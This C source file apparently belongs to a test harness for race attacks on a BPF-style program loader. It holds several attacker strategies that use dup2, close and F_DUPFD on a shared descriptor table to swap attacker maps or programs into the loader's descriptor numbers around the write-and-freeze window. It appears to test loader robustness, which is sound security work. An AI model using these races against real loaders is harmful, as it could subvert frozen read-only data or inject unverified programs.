// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * Race attacks - through the caller's descriptors: what the loader's numbers mean is changed
 *
 * The attacker shares the table of descriptors. It polls with lookups, which leave no trace that
 * could make the loader's freeze fail.
 */
#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>
#include "race.h"

/* Wait for what the loader does next; false: it has ended. */
#define UNTIL(r, condition)                                 \
	({                                                  \
		while ((r)->running && !(condition))        \
			race_step(r);                       \
		(r)->running != 0;                          \
	})

static bool has_value(int fd, uint32_t value)
{
	uint32_t seen;

	return !map_read(fd, &seen) && seen == value;
}

/**
 * number_before() - make this round's maps of the attacker
 * @r: the round
 *
 * Return: 0 or a negative errno.
 */
int number_before(struct race *r)
{
	for (int i = 0; i < 3; i++) {
		r->evil[i] = map_new(EVIL);
		if (r->evil[i] < 0)
			return r->evil[i];
	}
	return 0;
}

/* The loader writes and freezes the attacker's map; between the two the attacker writes it back. */
static void write_back(struct race *r, int fd)
{
	if (!UNTIL(r, has_value(fd, ANSWER)))
		return;
	while (r->running && !map_write(fd, EVIL))
		race_step(r);
}

/**
 * number_early() - own map over the number of .rodata as soon as it is there
 * @r: the round
 */
void number_early(struct race *r)
{
	int n = r->base + r->victim->rodata;

	if (!UNTIL(r, number_open(n)))
		return;
	dup2(r->evil[0], n);
	write_back(r, r->evil[0]);
}

/**
 * number_update() - own map over the number once the loader has written its data
 * @r: the round
 */
void number_update(struct race *r)
{
	int n = r->base + r->victim->rodata;

	if (UNTIL(r, number_open(n)) && UNTIL(r, has_value(n, ANSWER)))
		dup2(r->evil[0], n);
}

/**
 * number_freeze() - own map over the number after the freeze: the next object is there
 * @r: the round
 */
void number_freeze(struct race *r)
{
	int n = r->base + r->victim->rodata;

	if (UNTIL(r, number_open(n + 1)))
		dup2(r->evil[0], n);
}

/**
 * number_next() - the number that comes next is taken at once, twice: a map for the loader to
 * write, then another
 * @r: the round
 */
void number_next(struct race *r)
{
	int n = r->base + r->victim->rodata;

	if (!UNTIL(r, number_open(n)))
		return;
	dup2(r->evil[0], n);
	if (UNTIL(r, has_value(r->evil[0], ANSWER)))
		dup2(r->evil[1], n);
}

/**
 * number_swap() - the loader's own .data in the place of its .rodata
 * @r: the round
 */
void number_swap(struct race *r)
{
	int data = r->base + r->victim->data, rodata = r->base + r->victim->rodata;

	if (UNTIL(r, number_open(data)) && UNTIL(r, has_value(data, EVIL)))
		dup2(data, rodata);
}

/**
 * number_reuse() - close the loader's number; the lowest free number is then that one
 * @r: the round
 */
void number_reuse(struct race *r)
{
	int n = r->base + r->victim->rodata;

	if (!UNTIL(r, number_open(n)) || !UNTIL(r, has_value(n, ANSWER)))
		return;
	close(n);
	fcntl(r->evil[0], F_DUPFD, n);
}

/**
 * number_alias() - close .rodata's number after its freeze: the loader's next map gets it too
 * @r: the round
 */
void number_alias(struct race *r)
{
	int n = r->base + r->victim->rodata;

	if (!UNTIL(r, number_open(n)) || !UNTIL(r, has_value(n, ANSWER)))
		return;
	race_spin(r->step ? 0 : rand() % 40000);
	race_step(r);
	close(n);
}

/**
 * number_hammer() - own maps over the number again and again, whatever the loader does
 * @r: the round
 */
void number_hammer(struct race *r)
{
	int n = r->base + r->victim->rodata;

	while (r->running) {
		bool open = number_open(n);

		dup2(r->evil[rand() % 3], n);
		/* A number that was free is left to the loader. */
		if (!open)
			close(n);
		race_step(r);
	}
}

/**
 * number_write() - write the loader's map by its number until it is frozen
 * @r: the round
 */
void number_write(struct race *r)
{
	int n = r->base + r->victim->rodata;

	if (UNTIL(r, number_open(n)))
		write_back(r, n);
}

/**
 * number_prog_before() - make the attacker's program
 * @r: the round
 *
 * Return: 0 or a negative errno.
 */
int number_prog_before(struct race *r)
{
	if (!r->evil_prog)
		r->evil_prog = evil_prog_new();
	return r->evil_prog < 0 ? r->evil_prog : 0;
}

/**
 * number_prog() - own program over the number that the loader is about to put into an array
 * @r: the round
 */
void number_prog(struct race *r)
{
	int n = r->base + r->victim->last;

	if (UNTIL(r, number_open(n)))
		dup2(r->evil_prog, n);
}
